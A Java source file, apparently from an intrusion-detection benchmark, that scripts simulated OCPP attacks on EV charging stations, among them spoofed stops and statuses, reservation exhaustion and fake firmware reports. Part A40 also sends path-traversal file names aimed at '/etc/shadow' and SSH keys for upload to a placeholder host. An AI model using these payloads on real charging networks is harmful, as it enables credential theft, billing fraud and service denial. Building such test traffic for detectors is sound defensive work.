// SPDX-License-Identifier: Apache-2.0
package io.ferrule.benchmarks.ids.attack;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.ferrule.benchmarks.ids.simulation.Json;
import io.ferrule.benchmarks.ids.simulation.Station;
import java.util.ArrayList;
import java.util.List;

/** A36 to A40: what a station may say, at a time or about something that is a lie. */
final class TransactionAttacks {

    private TransactionAttacks() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>(confusions());
        all.addAll(statuses());
        all.addAll(reports());
        return all;
    }

    private static List<Attack> confusions() {
        return List.of(
                new Attack("A36", "stops the charge of another station", s -> {
                    Station other = s.other();
                    s.whileCharging(other, 40_000, () -> s.says("StopTransaction", stop(s, other.transaction(1), 10)));
                }),
                new Attack(
                        "A36",
                        "guesses the numbers of charges",
                        s -> s.whileCharging(() -> {
                            int last = s.estate().central().nextTransaction();
                            s.every(5, 25, i -> s.says("StopTransaction", stop(s, last - 1 - i, 10)));
                        })),
                new Attack(
                        "A36",
                        "a second charge on the same connector",
                        s -> s.whileCharging(() -> s.says("StartTransaction", start(s, 1)))),
                new Attack("A36", "starts although it is broken", s -> {
                    s.says("StatusNotification", status(1, "Faulted"));
                    s.later(60, () -> s.says("StartTransaction", start(s, 1)));
                }),
                new Attack("A36", "starts although it is out of service", s -> {
                    s.says("StatusNotification", status(1, "Unavailable"));
                    s.later(20, () -> s.says("StartTransaction", start(s, 1)));
                }),
                new Attack(
                        "A36",
                        "two ends of one charge",
                        s -> s.whileCharging(() -> {
                            int id = s.victim().transaction(1);
                            s.says("StopTransaction", stop(s, id, 100));
                            s.later(90, () -> s.says("StopTransaction", stop(s, id, 3)));
                        })),
                new Attack("A36", "meter values for the charge of another station", s -> {
                    Station other = s.other();
                    s.whileCharging(
                            other,
                            40_000,
                            () -> s.says(
                                    "MeterValues",
                                    Json.object(
                                            "connectorId", 1,
                                            "transactionId", other.transaction(1),
                                            "meterValue",
                                                    Json.array(Json.object(
                                                            "timestamp",
                                                            s.time(),
                                                            "sampledValue",
                                                            Json.array(Json.object("value", "5")))))));
                }));
    }

    private static List<Attack> statuses() {
        return List.of(
                new Attack(
                        "A37",
                        "a storm of faults",
                        s -> s.every(
                                1.5,
                                60,
                                i -> s.says(
                                        "StatusNotification",
                                        Json.object(
                                                "connectorId",
                                                1,
                                                "errorCode",
                                                i % 2 == 0 ? "GroundFailure" : "NoError",
                                                "status",
                                                i % 2 == 0 ? "Faulted" : "Available")))),
                new Attack(
                        "A37",
                        "free while it charges",
                        s -> s.whileCharging(() -> s.says("StatusNotification", status(1, "Available")))),
                new Attack(
                        "A37",
                        "a connector that does not exist",
                        s -> s.says("StatusNotification", status(99, "Available"))),
                new Attack(
                        "A37",
                        "charges without a beginning",
                        s -> s.every(
                                30,
                                6,
                                i -> s.says(
                                        "StatusNotification", status(1, i % 2 == 0 ? "SuspendedEVSE" : "Reserved")))),
                new Attack(
                        "A37",
                        "out of service again and again",
                        s -> s.every(
                                20,
                                30,
                                i -> s.says(
                                        "StatusNotification", status(1, i % 2 == 0 ? "Unavailable" : "Available")))),
                new Attack("A38", "everything is reserved", s -> s.fleet().forEach(station -> {
                    for (int c = 1; c <= station.connectors(); c++) {
                        s.command(station, "ReserveNow", reserve(s, c, 40 + c));
                    }
                })),
                new Attack(
                        "A38",
                        "reserved again and again",
                        s -> s.every(120, 15, i -> s.command("ReserveNow", reserve(s, 1, 500 + i)))),
                new Attack("A38", "one card occupies everything", s -> {
                    String card = s.drivers().card();
                    s.fleet()
                            .forEach(station -> s.says(
                                    station.channel(),
                                    "StartTransaction",
                                    Json.object(
                                            "connectorId",
                                            1,
                                            "idTag",
                                            card,
                                            "meterStart",
                                            Math.round(station.register(1)),
                                            "timestamp",
                                            s.time())));
                }));
    }

    private static List<Attack> reports() {
        List<Attack> all = new ArrayList<>(List.of(
                new Attack("A39", "an update that nobody ordered", s -> {
                    s.says("FirmwareStatusNotification", Json.object("status", "Installing"));
                    s.later(60, () -> s.says("FirmwareStatusNotification", Json.object("status", "Installed")));
                }),
                new Attack(
                        "A39",
                        "a flood of security events",
                        s -> s.every(
                                2,
                                100,
                                i -> s.says(
                                        "SecurityEventNotification",
                                        Json.object("type", "InvalidMessages", "timestamp", s.time())))),
                new Attack(
                        "A39",
                        "the security log is cleared",
                        s -> s.says(
                                "SecurityEventNotification",
                                Json.object("type", "SecurityLogWasCleared", "timestamp", s.time()))),
                new Attack(
                        "A39",
                        "diagnostics that nobody ordered",
                        s -> s.says("DiagnosticsStatusNotification", Json.object("status", "Uploaded")))));
        List.of(
                        "../../etc/passwd",
                        "/etc/shadow",
                        "..\\..\\windows\\system.ini",
                        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                        "logs/../../../root/.ssh/id_rsa")
                .forEach(name -> all.add(new Attack(
                        "A40",
                        "the file " + name,
                        s -> s.command(
                                "GetDiagnostics",
                                Json.object("location", "https://logs.example.com/up"),
                                Json.object("fileName", name)))));
        all.add(new Attack(
                "A40",
                "a file outside in the answer to GetLog",
                s -> s.command(
                        "GetLog",
                        Json.object(
                                "logType",
                                "SecurityLog",
                                "requestId",
                                4,
                                "log",
                                Json.object("remoteLocation", "https://logs.example.com/up")),
                        Json.object("status", "Accepted", "filename", "../../../etc/hosts"))));
        return all;
    }

    private static ObjectNode start(Stage stage, int connector) {
        return Json.object(
                "connectorId", connector,
                "idTag", stage.drivers().card(),
                "meterStart", Math.round(stage.victim().register(connector)),
                "timestamp", stage.time());
    }

    private static ObjectNode stop(Stage stage, int id, int wattHours) {
        return Json.object(
                "transactionId",
                id,
                "meterStop",
                Math.round(stage.victim().register(1)) + wattHours,
                "timestamp",
                stage.time());
    }

    private static ObjectNode status(int connector, String status) {
        return Json.object(
                "connectorId",
                connector,
                "errorCode",
                status.equals("Faulted") ? "OtherError" : "NoError",
                "status",
                status);
    }

    private static ObjectNode reserve(Stage stage, int connector, int number) {
        return Json.object(
                "connectorId",
                connector,
                "expiryDate",
                stage.simulation().now().plusSeconds(7_200).toString(),
                "idTag",
                "0466666666",
                "reservationId",
                number);
    }
}
